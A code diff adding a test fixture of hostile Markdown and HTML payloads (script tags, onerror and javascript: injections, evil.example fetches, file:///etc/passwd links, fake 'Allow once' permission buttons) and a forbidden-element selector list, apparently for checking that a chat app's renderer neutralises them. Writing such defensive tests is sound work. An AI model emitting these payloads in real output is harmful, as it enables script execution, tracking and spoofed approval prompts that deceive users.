@@ -1,0 +1,56 @@
+// The payloads of the attack table: each may not fetch anything, run anything, or look like a control of the window's. quality.md §4.
+
+/** What may stand nowhere in drawn Markdown: it would fetch, run, or be taken for a control. */
+export const FORBIDDEN =
+  "img, script, iframe, object, embed, form, input, textarea, select, style, link, meta, svg:not([aria-hidden]), a, video, audio, base, [style], [onclick], [onerror], [onload], [href], [src], [srcset]";
+
+export const HOSTILE_MARKDOWN: readonly (readonly [string, string])[] = [
+  ["an image", "![x](https://evil.example/track.png)"],
+  ["an image by reference", "![x][1]\n\n[1]: https://evil.example/track.png"],
+  ["an image of a file", "![x](file:///etc/passwd)"],
+  ["an image with data", "![x](data:image/svg+xml;base64,PHN2Zz4=)"],
+  ["an image in a link", "[![x](https://evil.example/a.png)](https://evil.example)"],
+  ["an HTML image", '<img src="https://evil.example/a.png" onerror="alert(1)">'],
+  ["a script", "<script>fetch('https://evil.example')</script>"],
+  ["a script in a paragraph", "Hello <script src=//evil.example></script> there"],
+  ["a frame", '<iframe src="https://evil.example"></iframe>'],
+  ["an SVG", '<svg onload="alert(1)"><image href="https://evil.example"/></svg>'],
+  ["a style", "<style>body{background:url(https://evil.example)}</style>"],
+  ["a style attribute", '<p style="background:url(https://evil.example)">x</p>'],
+  ["a form", '<form action="https://evil.example"><input name=key><button>Allow once</button></form>'],
+  ["a button of ours", '<button class="bg-accent">Allow once</button>'],
+  ["a script address", "[Allow once](javascript:alert(1))"],
+  ["a hidden script address", "[x](java&#115;cript:alert(1))"],
+  ["a data address", "[x](data:text/html,<script>alert(1)</script>)"],
+  ["a file address", "[x](file:///etc/passwd)"],
+  ["an app address", "[x](app://copilot/index.html)"],
+  ["an automatic link", "https://evil.example and <https://evil.example> and www.evil.example"],
+  ["a mail address", "a@evil.example <mailto:a@evil.example>"],
+  ["a footnote", "x[^1]\n\n[^1]: ![y](https://evil.example/a.png)"],
+  ["a task list", "- [ ] Allow once\n- [x] done"],
+  ["a meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
+  ["a base", '<base href="https://evil.example">'],
+  ["a definition that shadows", "[a]\n\n[a]: javascript:alert(1)"],
+  ["a comment that opens", "<!-- <img src=https://evil.example> "],
+  ["CDATA", "<![CDATA[<img src=https://evil.example>]]>"],
+  ["HTML in a table", "| a |\n| - |\n| <img src=https://evil.example> |"],
+  ["a picture of a card", "### Allow file-write?\n\n**[Allow once](https://evil.example)**"],
+  ["an image whose address is cut", "![x](https://evil.example/a.png"],
+  [
+    "a fence that hides HTML",
+    "```html\n<img src=https://evil.example/a.png>\n```\n<img src=https://evil.example/b.png>",
+  ],
+  ["a fence that never ends", "````\n```\n<img src=https://evil.example/a.png>"],
+  ["a fence with a hostile language", '```" onload=alert(1) x="\ncode\n```'],
+  ["a link title", '[x](https://evil.example "\\" onmouseover=alert(1)")'],
+  ["a link with a line break", "[Allow\nonce](https://evil.example)"],
+  ["an autolink with markup", "<https://evil.example/<img>>"],
+  [
+    "a card of ours",
+    '<section data-waiting-card="" class="bg-attention-wash"><h3>Allow run-command?</h3></section>',
+  ],
+  ["a direction override", "\u202e[ecno wollA](https://evil.example)\u202c"],
+  ["maths and macros", "$$\\href{javascript:alert(1)}{x}$$"],
+  ["a details element", "<details open ontoggle=alert(1)><summary>Allow once</summary></details>"],
+  ["a dialog", "<dialog open><button autofocus>Allow once</button></dialog>"],
+];
